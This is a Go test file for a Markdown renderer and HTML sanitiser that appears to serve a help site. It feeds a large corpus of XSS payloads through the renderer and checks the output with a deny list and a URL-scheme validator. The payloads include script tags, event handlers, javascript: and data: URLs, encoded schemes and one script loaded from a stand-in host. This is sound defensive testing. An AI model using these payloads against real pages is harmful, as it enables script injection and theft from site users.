package markdown

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// xssPayloads are attempts to smuggle script into rendered Markdown. Each must come out
// of Render, and out of the sanitiser alone, with nothing executable left.
var xssPayloads = []string{
	// Script elements in many casings and broken forms.
	`<script>alert(1)</script>`,
	`<SCRIPT>alert(1)</SCRIPT>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.example/x.js></script>`,
	`<script>alert(1)`,
	`<script/xss src="//evil.example/x.js"></script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>script>alert(1)<</script>/script>`,
	"<script\n>alert(1)</script\n>",
	"Text\n\n<script>\nalert(1)\n</script>\n\nmore text",
	// Event handlers.
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<img src="x" onerror="alert(1)"`,
	`<a href="#" onclick="alert(1)">x</a>`,
	`<div/onmouseover='alert(1)'>x</div>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<input autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	// Markdown links and images with dangerous URLs.
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/png;base64,iVBORw0KGgo=)`,
	`[x](&#106;avascript:alert(1))`,
	`[x](&#x6A;avascript&#x3A;alert(1))`,
	`[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))`,
	`[x](java&#x09;script:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`,
	`[x](https://example.com" onclick="alert(1))`,
	"[x][1]\n\n[1]: javascript:alert(1)",
	"[x][1]\n\n[1]: <JAVASCRIPT:alert(1)> \"title\"",
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`![x](data:image/png;base64,iVBORw0KGgo=)`,
	`![x](x "onerror=alert(1)")`,
	`![x](x" onerror="alert(1))`,
	"![x](x \"\\\" onerror=\\\"alert(1)\")",
	// Autolinks.
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<vbscript:msgbox(1)>`,
	`<data:text/html,<script>alert(1)</script>>`,
	`javascript:alert(1)`,
	// Embedded content and structure.
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="javascript:alert(1)"`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href=javascript:alert(1)>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	// Comments, including conditional comments.
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	// Markdown wrapped around HTML.
	"> <script>alert(1)</script>",
	"- <img src=x onerror=alert(1)>",
	"**<svg onload=alert(1)>**",
	"# <iframe src=javascript:alert(1)>",
}

// forbiddenElements are elements that must never appear in rendered Markdown.
var forbiddenElements = map[atom.Atom]bool{
	atom.Script: true, atom.Iframe: true, atom.Object: true, atom.Embed: true,
	atom.Svg: true, atom.Math: true, atom.Style: true, atom.Form: true,
	atom.Base: true, atom.Meta: true, atom.Link: true, atom.Frame: true,
	atom.Frameset: true, atom.Applet: true, atom.Template: true, atom.Noscript: true,
	atom.Input: true, atom.Button: true, atom.Textarea: true, atom.Select: true,
}

// urlAttributes are attributes whose values browsers treat as URLs.
var urlAttributes = map[string]bool{
	"href": true, "src": true, "cite": true, "action": true, "formaction": true,
	"data": true, "poster": true, "background": true, "srcset": true, "xlink:href": true,
	"codebase": true, "longdesc": true, "usemap": true, "ping": true,
}

// checkSafeHTML parses out as an HTML fragment and reports every element, attribute
// or URL that could run script.
func checkSafeHTML(t *testing.T, input, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, DataAtom: atom.Body, Data: "body"})
	if err != nil {
		t.Fatalf("input %q: output %q does not parse: %v", input, out, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if forbiddenElements[n.DataAtom] || n.Namespace != "" {
				t.Errorf("input %q: output %q contains a <%s> element", input, out, n.Data)
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				switch {
				case strings.HasPrefix(key, "on"):
					t.Errorf("input %q: output %q has an event handler attribute %q", input, out, a.Key)
				case key == "style":
					t.Errorf("input %q: output %q has a style attribute", input, out)
				case key == "srcdoc":
					t.Errorf("input %q: output %q has a srcdoc attribute", input, out)
				case urlAttributes[key] && !safeURL(a.Val):
					t.Errorf("input %q: output %q has an unsafe %s URL %q", input, out, a.Key, a.Val)
				}
			}
		}
		if n.Type == html.CommentNode {
			t.Errorf("input %q: output %q contains a comment %q", input, out, n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
}

// safeURL reports whether a URL attribute value, already entity-decoded by the parser,
// is relative or uses the http, https, mailto or tel scheme. Like a browser, it decodes
// entities again in case of double encoding, removes white space and control
// characters anywhere, and folds case before looking for the scheme.
func safeURL(v string) bool {
	v = html.UnescapeString(v)
	v = strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, v)
	v = strings.ToLower(v)
	i := strings.IndexAny(v, ":/?#")
	if i < 0 || v[i] != ':' {
		return true // relative
	}
	scheme := v[:i]
	for _, r := range scheme {
		if !(r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.') {
			return true // not a scheme, so a relative path
		}
	}
	switch scheme {
	case "http", "https", "mailto", "tel":
		return true
	}
	return false
}

func TestXSSMarkdown(t *testing.T) {
	if len(xssPayloads) < 30 {
		t.Fatalf("the XSS corpus has %d payloads, want at least 30", len(xssPayloads))
	}
	for i, payload := range xssPayloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			out, _, err := Render(payload)
			if err != nil {
				t.Fatalf("Render(%q) error: %v", payload, err)
			}
			checkSafeHTML(t, payload, out)
			if strings.Contains(strings.ToLower(out), "<script") {
				t.Errorf("Render(%q) = %q, contains <script", payload, out)
			}
		})
	}
}

// TestXSSPolicy checks the sanitiser on its own, as if goldmark had passed the raw
// HTML through, so that it is a real second line of defence.
func TestXSSPolicy(t *testing.T) {
	for i, payload := range xssPayloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			out := policy.Sanitize(payload)
			checkSafeHTML(t, payload, out)
			if strings.Contains(strings.ToLower(out), "<script") {
				t.Errorf("Sanitize(%q) = %q, contains <script", payload, out)
			}
		})
	}
}

func TestSafeURL(t *testing.T) {
	tests := []struct {
		url  string
		want bool
	}{
		{"https://example.com/", true},
		{"HTTP://example.com/", true},
		{"mailto:help@example.com", true},
		{"tel:+448081000900", true},
		{"/help/stop-it-now", true},
		{"#top", true},
		{"help?q=a:b", true},
		{"javascript:alert(1)", false},
		{" JaVaScRiPt:alert(1)", false},
		{"java\tscript:alert(1)", false},
		{"&#106;avascript:alert(1)", false},
		{"data:image/png;base64,AAAA", false},
		{"vbscript:msgbox(1)", false},
	}
	for _, tt := range tests {
		if got := safeURL(tt.url); got != tt.want {
			t.Errorf("safeURL(%q) = %v, want %v", tt.url, got, tt.want)
		}
	}
}

func TestRenderMarkdownHTML(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"heading", "## Get help now", "<h2>Get help now</h2>\n"},
		{"paragraph", "Call us today.", "<p>Call us today.</p>\n"},
		{"emphasis and strong", "*you* are **not alone**", "<p><em>you</em> are <strong>not alone</strong></p>\n"},
		{"unordered list", "- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"},
		{"ordered list", "1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"},
		{"blockquote", "> Quoted", "<blockquote>\n<p>Quoted</p>\n</blockquote>\n"},
		{"code span", "Use `101`", "<p>Use <code>101</code></p>\n"},
		{"code block", "```\n<script>x</script>\n```", "<pre><code>&lt;script&gt;x&lt;/script&gt;\n</code></pre>\n"},
		{
			"https link", "[Stop It Now](https://www.stopitnow.org.uk/)",
			`<p><a href="https://www.stopitnow.org.uk/" rel="nofollow noopener noreferrer">Stop It Now</a></p>` + "\n",
		},
		{
			"tel link", "[0808 1000 900](tel:+448081000900)",
			`<p><a href="tel:+448081000900" rel="nofollow noopener noreferrer">0808 1000 900</a></p>` + "\n",
		},
		{
			"mailto link", "[Email](mailto:help@example.org)",
			`<p><a href="mailto:help@example.org" rel="nofollow noopener noreferrer">Email</a></p>` + "\n",
		},
		{
			"relative link", "[Help](/helplines/stop-it-now)",
			`<p><a href="/helplines/stop-it-now" rel="nofollow noopener noreferrer">Help</a></p>` + "\n",
		},
		{
			"autolink", "<https://crimestoppers-uk.org>",
			`<p><a href="https://crimestoppers-uk.org" rel="nofollow noopener noreferrer">https://crimestoppers-uk.org</a></p>` + "\n",
		},
		{
			"bare URL", "See www.example.org now",
			`<p>See <a href="http://www.example.org" rel="nofollow noopener noreferrer">www.example.org</a> now</p>` + "\n",
		},
		{"strikethrough", "~~old~~ new", "<p><del>old</del> new</p>\n"},
		{"raw HTML is dropped", "a <b>bold</b> word", "<p>a bold word</p>\n"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, _, err := Render(tt.src)
			if err != nil {
				t.Fatalf("Render(%q) error: %v", tt.src, err)
			}
			if got != tt.want {
				t.Errorf("Render(%q) html\n got %q\nwant %q", tt.src, got, tt.want)
			}
		})
	}
}

func TestRenderMarkdownTable(t *testing.T) {
	got, _, err := Render("| Service | Number |\n|---|---|\n| Police | 101 |")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"<table>", "<th>Service</th>", "<td>101</td>"} {
		if !strings.Contains(got, want) {
			t.Errorf("table html %q does not contain %q", got, want)
		}
	}
}

func TestRenderMarkdownText(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"empty", "", ""},
		{"paragraph", "Call us   today.", "Call us today."},
		{"soft line break", "one\ntwo", "one two"},
		{"hard line break", "one  \ntwo", "one\ntwo"},
		{"paragraphs", "First.\n\nSecond.", "First.\n\nSecond."},
		{"heading and paragraph", "## Get help\n\nCall **101**.", "Get help\n\nCall 101."},
		{"inline markup", "*you* are **not** `alone`", "you are not alone"},
		{"link keeps its text", "Call [Stop It Now](https://www.stopitnow.org.uk/) free.", "Call Stop It Now free."},
		{"entities are decoded", "Fish &amp; chips &lt;3 &copy;", "Fish & chips <3 ©"},
		{"escaped HTML stays text", "Use `<script>` carefully", "Use <script> carefully"},
		{"list", "Intro:\n\n- one\n- two\n\nEnd.", "Intro:\n\none\ntwo\n\nEnd."},
		{"blockquote", "> Quoted\n\nAfter", "Quoted\n\nAfter"},
		{"code block keeps lines", "```\nline  one\n  line two\n```", "line  one\n  line two"},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |", "a b\n1 2"},
		{"raw HTML is dropped", "<script>alert(1)</script>\n\nSafe", "Safe"},
		{"thematic break", "Above\n\n---\n\nBelow", "Above\n\nBelow"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, got, err := Render(tt.src)
			if err != nil {
				t.Fatalf("Render(%q) error: %v", tt.src, err)
			}
			if got != tt.want {
				t.Errorf("Render(%q) text\n got %q\nwant %q", tt.src, got, tt.want)
			}
		})
	}
}

func TestRenderMarkdownConcurrent(t *testing.T) {
	const src = "## Help\n\nCall [101](tel:101) or see <https://example.org>."
	wantHTML, wantText, err := Render(src)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for range 16 {
		wg.Go(func() {
			for range 20 {
				h, txt, err := Render(src)
				if err != nil || h != wantHTML || txt != wantText {
					t.Errorf("concurrent Render = %q, %q, %v; want %q, %q", h, txt, err, wantHTML, wantText)
					return
				}
			}
		})
	}
	wg.Wait()
}
